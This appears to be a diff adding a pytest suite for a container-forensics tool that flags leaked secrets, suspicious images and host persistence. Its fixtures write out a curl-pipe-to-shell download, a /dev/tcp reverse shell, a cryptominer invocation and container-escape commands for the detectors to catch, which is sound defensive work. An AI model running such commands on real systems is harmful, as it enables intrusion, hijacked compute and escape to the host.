@@ -1,0 +1,318 @@
+"""Rules about containers, container images and the host as a whole, and the analyst's own YARA rules."""
+
+import json
+import sqlite3
+from contextlib import closing
+
+import pytest
+
+from forensics.findings.all import find, texts
+from forensics.findings.attack import TECHNIQUES
+from forensics.findings.rule import SEVERITIES
+from forensics.findings.scene import Scene
+from forensics.findings.yara import compiled, yara_rule
+from parsers.errors import UsageError
+from support.casebuilder import CaseBuilder
+from support.cli import run_cli
+from support.memory_filesystem import MemoryFilesystem
+from support.scenes import OneContainer
+
+STEP = {"created_ns": 1, "created_by": "RUN x", "comment": None, "author": None, "empty": False}
+
+
+@pytest.fixture
+def builder(tmp_path):
+    return CaseBuilder(tmp_path / "case.db")
+
+
+def found(builder, rule, filesystems=None):
+    told = {text.name: findings for text, findings in find(Scene(builder.db, filesystems or {}))}
+    return [(f.severity, f.title) for f in told[rule]]
+
+
+def image(builder, **row):
+    base = {"image_id": "sha256:" + "1" * 64, "refs": '["shop:1"]', "layers": '["sha256:a"]', "history": json.dumps([STEP])}
+    base |= {"store_id": builder.store, "engine": "docker", "origin": "allocated"}
+    return builder.insert("container_image", **(base | row))
+
+
+def test_every_rule_says_all_that_it_must():
+    names = [text.name for text in texts()]
+    assert len(set(names)) == len(names)
+    for text in texts():
+        assert text.severity in SEVERITIES
+        assert text.title and text.why and text.check and text.benign
+        assert text.attack and set(text.attack) <= TECHNIQUES.keys(), text.name
+
+
+# -- secrets
+
+
+@pytest.mark.parametrize(
+    ("env", "title"),
+    [
+        (["DB_PASSWORD=hunter2"], "secret in the environment: DB_PASSWORD"),
+        (["AWS_SECRET_ACCESS_KEY=abcdefghij", "A=b"], "secret in the environment: AWS_SECRET_ACCESS_KEY"),
+        (["DATABASE_URL=postgres://shop:pa55word@db/shop"], "secret in the environment: DATABASE_URL"),
+        (["X=ghp_" + "a" * 36], "secret in the environment: X"),
+        (["dbPassword=abc"], "secret in the environment: dbPassword"),
+    ],
+)
+def test_secrets_in_the_environment_are_told_and_never_shown(builder, env, title):
+    builder.container("c" * 64, "web", env=json.dumps(env), command='["app"]')
+    told = {text.name: findings for text, findings in find(Scene(builder.db, {}))}["secret-environment"]
+    assert [(f.severity, f.title) for f in told] == [("medium", title)]
+    for entry in env:
+        assert entry.partition("=")[2] not in told[0].detail + told[0].title or len(entry.partition("=")[2]) < 2
+
+
+@pytest.mark.parametrize(
+    "entry",
+    ["PATH=/bin", "DB_PASSWORD_FILE=/run/secrets/db", "GPG_KEY=E3FF2839C048B25C084DEBE9B26995E310250568", "PWD=/srv", "TOKEN=",
+     "ALLOW_EMPTY_PASSWORD=yes", "KEYBOARD=de", "API_KEY=${API_KEY}", "SECRET_NAME=db", "URL=https://user@host/x", "PASSENGER=1"],
+)  # fmt: skip
+def test_what_is_no_secret(builder, entry):
+    builder.container("c" * 64, "web", env=json.dumps([entry]))
+    assert found(builder, "secret-environment") == []
+
+
+def test_secrets_in_commands_labels_and_images(builder):
+    builder.container("c" * 64, "web", command='["mysql", "--password=hunter2x"]', labels='{"admin.password": "hunter2x"}')
+    image(builder, history=json.dumps([STEP | {"created_by": "/bin/sh -c #(nop)  ENV API_TOKEN=hunter2x"}]),
+          config=json.dumps({"config": {"Env": ["DB_PASSWORD=hunter2x"]}}))  # fmt: skip
+    image(builder, history=None, config="[[", labels=None, image_id="sha256:2")
+    assert found(builder, "secret-environment") == [("medium", "secret in the command: --password")]
+    assert found(builder, "secret-label") == [("medium", "secret in labels: admin.password")]
+    assert found(builder, "secret-image") == [("medium", "secret in container image shop:1: API_TOKEN, DB_PASSWORD")]
+    told = [f.detail + f.title for _text, findings in find(Scene(builder.db, {})) for f in findings]
+    assert told and not any("hunter2x" in each for each in told)
+
+
+# -- what containers were started to do
+
+
+@pytest.mark.parametrize(
+    ("rule", "command", "severity"),
+    [
+        ("command-download", "curl -s http://203.0.113.9/x.sh | sh", "high"),
+        ("command-download", "curl -s https://get.example.org/x.sh | sh", "medium"),
+        ("command-download", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "high"),
+        ("miner-container", "/app/xmrig -o pool.supportxmr.com:443", "high"),
+        ("miner-container", "./run --url stratum+tcp://203.0.113.9:3333", "high"),
+        ("escape-command", "nsenter -t 1 -m -u -i -n bash", "high"),
+        ("escape-command", "chroot /host bash", "high"),
+        ("escape-command", "mount /dev/sda1 /mnt", "high"),
+    ],
+)
+def test_commands(builder, rule, command, severity):
+    builder.container("c" * 64, "web", command=json.dumps(["sh", "-c", command]))
+    assert [each[0] for each in found(builder, rule)] == [severity]
+
+
+@pytest.mark.parametrize(
+    "command", ["nginx -g 'daemon off;'", "curl -f http://localhost/ || exit 1", "mount -a", "python app.py"]
+)
+def test_ordinary_commands(builder, command):
+    builder.container("c" * 64, "web", command=json.dumps(["sh", "-c", command]))
+    for rule in ("command-download", "miner-container", "escape-command"):
+        assert found(builder, rule) == []
+
+
+# -- container images
+
+
+@pytest.mark.parametrize(
+    ("rule", "row", "expected"),
+    [
+        ("image-built-here", {"parent_image": "sha256:2"}, [("info", "container image shop:1 was built on this host")]),
+        ("image-built-here", {"history": json.dumps([STEP | {"comment": "Imported from -"}])},
+         [("info", "container image shop:1 began as an archive")]),
+        ("image-built-here", {"history": json.dumps([STEP | {"comment": "buildkit.dockerfile.v0"}])},
+         [("info", "container image shop:1 was not pulled")]),
+        ("image-built-here", {"refs": '["nginx:1", "nginx@sha256:1"]',
+                              "history": json.dumps([STEP | {"comment": "buildkit.dockerfile.v0"}])}, []),
+        ("image-registry", {"refs": '["203.0.113.9:5000/x:1"]'}, [("medium", "container image from 203.0.113.9:5000")]),
+        ("image-registry", {"refs": '["registry.example/x:1"]'}, [("low", "container image from registry.example")]),
+        ("image-registry", {"refs": '["10.0.0.1:5000/x:1"]'}, [("low", "container image from 10.0.0.1:5000")]),
+        ("image-registry", {"refs": '["ghcr.io/a/b:1", "nginx:1", "1.dkr.ecr.eu-west-1.amazonaws.com/x:1"]'}, []),
+        ("image-history", {"layers": '["sha256:a", "sha256:b"]'},
+         [("medium", "history of container image shop:1 does not fit its layers")]),
+        ("image-history", {"history": json.dumps([STEP, STEP | {"empty": True}])}, []),
+        ("image-history", {"history": "[]", "layers": '["sha256:a", "sha256:b"]'}, []),
+        ("image-download", {"history": json.dumps([STEP | {"created_by": "RUN curl http://203.0.113.9/x | sh"}])},
+         [("medium", "build of shop:1 pipes a download into a shell")]),
+    ],
+)  # fmt: skip
+def test_container_images(builder, rule, row, expected):
+    image(builder, **row)
+    assert found(builder, rule) == expected
+
+
+def test_an_image_without_a_name_counts_where_a_container_runs_it(builder):
+    image(builder, refs="[]")
+    assert found(builder, "image-untagged") == []
+    builder.container("c" * 64, "web", image_id="sha256:" + "1" * 64)
+    assert found(builder, "image-untagged") == [("low", "a container runs an image without a name")]
+
+
+def test_an_altered_layer_is_told_for_every_container_on_it(builder):
+    layer = builder.layer("base")
+    builder.db.execute("UPDATE layer SET integrity = 'altered' WHERE id = ?", (layer,))
+    for name in ("a", "b"):
+        builder.container(name * 64, name, builder.layer(f"own-{name}", layer, kind="container"))
+    assert found(builder, "layer-altered") == [("high", "layer of a container image altered")] * 2
+
+
+def test_odd_marks_of_one_layer_are_told_once(builder):
+    layer = builder.layer("own", kind="container")
+    for number in range(5):
+        builder.insert("anomaly", entry_id=builder.entry(layer, b"/x%d" % number), kind="redirect", text="leads nowhere")
+    assert found(builder, "overlay-oddity") == [("low", "odd mark of overlayfs: redirect")]
+
+
+# -- removed and deleted
+
+
+def test_containers_removed_at_the_end(builder):
+    hour = 3_600_000_000_000
+    now = 1_700_000_000 * 10**9
+    builder.container("a" * 64, "there", created_ns=now - 99 * hour, started_ns=now)
+    builder.container("b" * 64, "late", origin="recovered", created_ns=now - hour // 2)
+    builder.container("c" * 64, "early", origin="recovered", created_ns=now - 9 * hour, finished_ns=now - 8 * hour)
+    builder.container("d" * 64, "unknown", origin="recovered")
+    assert found(builder, "removed-late") == [("medium", "removed soon before the power went off")]
+
+
+def test_files_deleted_while_open(builder):
+    base = {"partition": 1, "type": "f", "size": 9, "confidence": "certain", "recovered_bytes": 9}
+    builder.insert("deleted_file", method="orphan", path="/tmp/x", mode=0o755, **base)
+    builder.insert("deleted_file", method="orphan", path="/tmp/y", mode=0o600, **base)
+    builder.insert("deleted_file", method="journal", path="/tmp/z", mode=0o755, **base)
+    assert [severity for severity, _title in found(builder, "deleted-open")] == ["high", "low"]
+
+
+def test_logs_of_the_image_that_were_deleted(tmp_path):
+    web = OneContainer(tmp_path / "c.db")
+    for path, size in ((b"/root/.bash_history", 5), (b"/var/log/auth.log", 5), (b"/var/log/apt/x.log.1.gz", 5), (b"/srv/x", 5)):
+        web.builder.hide(
+            web.own, web.below(path, b"x" * size), "whiteout", web.builder.entry(web.own, path, mark="whiteout", type="c")
+        )
+    assert [(s, p) for s, _t, p in web.found("removed-log")] == [
+        ("medium", b"/root/.bash_history"),
+        ("low", b"/var/log/auth.log"),
+    ]
+
+
+# -- the host
+
+
+@pytest.mark.parametrize(
+    ("tree", "expected"),
+    [
+        ({"etc": {"cron.d": {"x": b"* * * * * root /var/lib/docker/overlay2/abc/diff/run\n"}}}, "high"),
+        ({"etc": {"sysctl.d": {"x": b"kernel.core_pattern = |/var/lib/docker/overlay2/abc/diff/run\n"}}}, "high"),
+        ({"etc": {"sysctl.d": {"x": b"kernel.core_pattern=|/usr/lib/systemd/systemd-coredump %P\n"}}}, None),
+        ({"etc": {"ld.so.preload": b"/lib/x.so\n"}}, "high"),
+        ({"etc": {"crontab": b"17 * * * * root run-parts /etc/cron.hourly\n# /var/lib/docker/overlay2/x/run\n"}}, None),
+        ({"root": {".bash_history": b"docker run --privileged -v /:/host alpine\n"}}, "medium"),
+        ({"etc": {"crontab": "/etc/crontab"}}, None),
+        ({"etc": {"crontab": b"\xff\0" * 2_000_000}}, None),
+    ],
+)
+def test_traces_on_the_host(builder, tree, expected):
+    builder.insert("host_facts", hostname="h", partition=1)
+    severities = [severity for severity, _title in found(builder, "host-trace", {1: MemoryFilesystem(tree)})]
+    assert severities == ([] if expected is None else [expected])
+
+
+@pytest.mark.parametrize(("device", "count"), [("/", 1), ("/etc", 1), ("/srv/data", 0), ("tmpfs", 0)])
+def test_volumes_that_are_the_host(builder, device, count):
+    options = json.dumps({"type": "none", "o": "bind", "device": device})
+    builder.insert(
+        "volume", store_id=builder.store, engine="docker", name="data", used_by="[]", options=options, origin="allocated"
+    )
+    assert len(found(builder, "host-volume")) == count
+
+
+# -- YARA
+
+RULE = 'rule evil : tag { meta: severity = "high" description = "what it is" strings: $a = "EVIL" condition: $a }'
+
+
+def scanned(tmp_path, scope):
+    pytest.importorskip("yara_x")
+    (tmp_path / "r.yar").write_text(RULE)
+    web = OneContainer(tmp_path / "c.db")
+    web.below(b"/image", b"EVIL")
+    web.add(b"/own", b"..EVIL")
+    web.add(b"/harmless", b"good")
+    web.contents.disk = b"EV" + bytes(98) + b"IL"
+    web.builder.insert("deleted_file", container=web.container, partition=1, path="/gone", type="f", size=4, method="journal",
+                       confidence="certain", extents="[[0, 0, 2], [2, 100, 2], [-1, 0, 9], [4, null, 5]]")  # fmt: skip
+    own = yara_rule(compiled(tmp_path), scope)
+    return {text.name: findings for text, findings in find(web.scene(), (own,))}["yara"]
+
+
+@pytest.mark.parametrize(
+    ("scope", "paths"), [("changed", [b"/own"]), ("recovered", [b"/gone"]), ("all", [b"/image", b"/own", b"/gone"])]
+)
+def test_yara_rules(tmp_path, scope, paths):
+    told = scanned(tmp_path, scope)
+    assert [f.path for f in told] == paths
+    assert {f.severity for f in told} == {"high"}
+    assert all("what it is" in f.detail and "tag" in f.detail and "$a at " in f.detail for f in told)
+
+
+def test_yara_rules_that_cannot_be_used(tmp_path):
+    pytest.importorskip("yara_x")
+    (tmp_path / "bad.yar").write_text("rule x { condition: }")
+    (tmp_path / "empty").mkdir()
+    for path in (tmp_path / "bad.yar", tmp_path / "empty", tmp_path / "not-there.yar"):
+        with pytest.raises(UsageError, match=path.name):
+            compiled(path)
+
+
+# -- on a disk image
+
+
+def test_an_intrusion_is_found(carved):
+    with closing(sqlite3.connect(carved("webshop"))) as db:
+        rows = db.execute("SELECT rule, severity, path, offset, detail FROM findings WHERE container = 'debug'").fetchall()
+        titles = [row[0] for row in db.execute("SELECT title FROM findings WHERE container = 'debug'")]
+        never = db.execute("SELECT count(*) FROM findings WHERE container = 'migrate' AND path IS NOT NULL").fetchone()
+    assert {rule for rule, severity, *_ in rows if severity == "high"} >= {
+        "privileged", "engine-socket", "host-mount", "account", "ssh-key", "cron", "ld-preload", "setuid", "new-program",
+        "escape-command",
+    }  # fmt: skip
+    assert {"/usr/bin/.su", "/etc/passwd", "/root/.ssh/authorized_keys", "/etc/ld.so.preload"} <= {row[2] for row in rows}
+    assert all(row[3] is not None for row in rows)
+    assert "account daemon2 has uid 0" in titles
+    assert never == (0,)
+
+
+def test_the_environment_of_the_sample_is_redacted(carved):
+    with closing(sqlite3.connect(carved("webshop"))) as db:
+        (env,) = db.execute("SELECT env FROM containers WHERE name = 'storefront'").fetchone()
+        told = db.execute("SELECT title || detail FROM findings WHERE rule = 'secret-environment'").fetchall()
+    password = next(entry.partition("=")[2] for entry in json.loads(env) if entry.startswith("DB_PASSWORD="))
+    assert told and not any(password in text for (text,) in told)
+
+
+def test_findings_and_rules_as_commands(carved):
+    case = carved("webshop")
+    rows = [
+        json.loads(line) for line in run_cli("findings", case, "-f", "jsonl", "--severity", "high", "-c", "debug").splitlines()
+    ]
+    assert {row["severity"] for row in rows} == {"high"}
+    assert {row["container"] for row in rows} == {"debug"}
+    assert isinstance(rows[0]["attack"], list)
+    assert run_cli("findings", case, "--rule", "cron").count(b"\n") == 2
+    assert b"T1548.001" in run_cli("rules", case, "setuid")
+    run_cli("rules", case, "nosuchrule", expect=2)
+    run_cli("findings", case, "--rule", "nosuchrule", expect=2)
+
+
+def test_a_carve_that_looks_for_nothing(sample, tmp_path):
+    out = run_cli("carve", sample("webshop"), "-o", tmp_path / "c.db", "--no-findings")
+    assert b"not looked for" in out
+    run_cli("rules", tmp_path / "c.db", "setuid", expect=2)
